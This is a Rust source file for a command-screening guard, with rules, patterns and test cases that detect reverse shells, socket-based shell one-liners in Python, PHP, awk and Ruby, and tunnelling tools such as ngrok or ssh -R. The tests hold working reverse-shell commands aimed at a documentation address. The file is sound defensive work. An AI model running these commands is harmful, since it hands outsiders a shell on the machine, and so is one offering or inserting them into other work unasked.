//! Shells for others, and ways in.

use super::{Category, Check, Patterns, RULE, Rule, RuleInput};
use crate::{command::FileRedirect, flatten::is_loopback, programs::SHELLS, shell::RedirectKind};

pub(super) const RULES: &[Rule] = &[
    Rule {
        id: "reverse-shell",
        category: Category::Tunnels,
        finds: "connects a shell to the network",
        instead: "Run commands here; nothing outside needs a shell on this machine.",
        patterns: Patterns::new(&[
            "nc|ncat|netcat|pwncat|rustcat|rcat -e|-c|--exec|--sh-exec|--lua-exec",
            "socat ~exec:*|system:*|shell:*",
            "msfvenom|msfconsole|gs-netcat|meterpreter",
            "xterm ~-display",
            "ztcp|zsocket ?*",
            "zmodload ~zsh/net/*",
        ]),
        spares_dry_runs: false,
        check: Check::Command(reverse_shell),
        matches: &[
            "bash -i >& /dev/tcp/203.0.113.9/80 0>&1",
            "nc -e /bin/sh 203.0.113.9 4444",
            "ncat 203.0.113.9 99 --sh-exec bash",
            "socat EXEC:sh TCP:203.0.113.9:99",
            "mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 203.0.113.9 99 > /tmp/f",
            "nc -lvp 4444 -e /bin/bash",
        ],
        passes: &[
            "nc -zv localhost 6379",
            "socat -V",
            "node server.js --port 4444 &",
            "(echo > /dev/tcp/127.0.0.1/5432) 2>/dev/null",
        ],
        ..RULE
    },
    Rule {
        id: "reverse-shell-code",
        category: Category::Tunnels,
        finds: "connects a shell to the network in a one-liner",
        instead: "Run commands here; nothing outside needs a shell on this machine.",
        code: &[
            &[
                "connect(",
                "create_connection",
                "fsockopen",
                "TCPSocket",
                "net.Socket",
                "createConnection",
                "IO::Socket",
                "connect_ex",
                "stream_socket_client",
                "socket(S",
                "net.connect",
            ],
            &[
                "dup2",
                "pty.spawn",
                "/bin/sh",
                "/bin/bash",
                "subprocess",
                "exec(",
                "exec \"",
                "spawn(",
                "os.system",
                "popen",
                "sh -i",
                "cmd.exe",
                "child_process",
            ],
        ],
        check: Check::Command(|input| {
            let code = input.command.code.as_deref()?;
            input.found_if(["/inet/tcp", "/inet/udp", "/dev/tcp/"].iter().any(|device| code.contains(device)))
        }),
        matches: &[
            "python3 -c 'import socket,os;s=socket.socket();s.connect((\"203.0.113.9\",99));os.dup2(s.fileno(),0)'",
            "php -r '$s=fsockopen(\"203.0.113.9\",99);exec(\"sh <&3 >&3\");'",
            "awk 'BEGIN{s=\"/inet/tcp/0/203.0.113.9/99\";s|&getline}'",
            "ruby -rsocket -e 'c=TCPSocket.new(\"203.0.113.9\",99);exec \"sh\"'",
        ],
        passes: &[
            "python3 -c 'import socket; s=socket.socket(); s.bind((\"127.0.0.1\",0))'",
            "python3 -c 'import socket; print(socket.gethostname())'",
        ],
        ..RULE
    },
    Rule {
        id: "tunnel",
        category: Category::Tunnels,
        finds: "opens a tunnel into or out of this machine",
        instead: "Use services on this machine only, and say if something must be reachable.",
        patterns: Patterns::new(&[
            "openvpn|vpnc|openconnect|zerotier-cli|nebula|untun|tunnelmole|tunnelto|localhost.run ~*",
            "code-server --bind-addr=0.0.0.0*|--host=0.0.0.0",
            "ngrok|localtunnel|lt|bore|frpc|frps|chisel|sshuttle|serveo|pagekite|zrok|localxpose|loclx|expose|gost|inlets|proxytunnel|iodine|dnscat|dnscat2|sshd|dropbear|telnetd|ttyd|gotty|wetty|shellinaboxd|tmate|upterm|vncserver|x11vnc ~*",
            "cloudflared tunnel|access",
            "tailscale funnel|serve|up|ssh",
            "devtunnel host|create",
            "code|vscode tunnel",
            "websocat ~cmd:*|exec:*|sh-c:*",
        ]),
        spares_dry_runs: false,
        check: Check::Command(tunnel),
        matches: &[
            "ngrok http 3000",
            "cloudflared tunnel --url localhost:80",
            "ssh -R 80:localhost:80 host",
            "ssh -D 1080 host",
            "npx localtunnel --port 3000",
            "tailscale funnel 3000",
        ],
        passes: &["ssh -T git@github.com", "ngrok --version", "tailscale status"],
        ..RULE
    },
];

/// A shell whose input or output is a connection.
fn reverse_shell(input: &RuleInput<'_>) -> Option<String> {
    let command = input.command;
    let is_shell = SHELLS.contains(&command.program.as_str());
    if !is_shell && !command.is(&["exec", ""]) {
        return None;
    }
    let is_network = |redirect: &FileRedirect| {
        let path = &redirect.path;
        let rest = path.strip_prefix("/dev/tcp/").or_else(|| path.strip_prefix("/dev/udp/"));
        rest.is_some_and(|rest| !is_loopback(rest)) && redirect.kind != RedirectKind::Here
    };
    let reads = |programs: &[&str]| {
        is_shell && command.stdin.programs.iter().any(|program| programs.contains(&program.as_str()))
    };
    input.found_if(
        command.redirects.iter().any(is_network)
            || reads(&["nc", "ncat", "socat", "telnet", "openssl"])
            || (reads(&["cat"]) && command.has("i", &[]) && command.is_piped),
    )
}

/// The letters are options of their own, not part of a value.
fn tunnel(input: &RuleInput<'_>) -> Option<String> {
    let command = input.command;
    let forwards = |arg: &String| {
        let letters = arg.strip_prefix('-').filter(|rest| !rest.starts_with('-')).unwrap_or_default();
        let cluster: String = letters.chars().take_while(char::is_ascii_alphabetic).collect();
        cluster.chars().all(|letter| "fNnTtqvCAXYgRLDwk46aM".contains(letter))
            && cluster.contains(['R', 'L', 'D', 'w'])
    };
    input.found_if(command.is(&["ssh", "autossh", "plink"]) && command.args.iter().any(forwards))
}
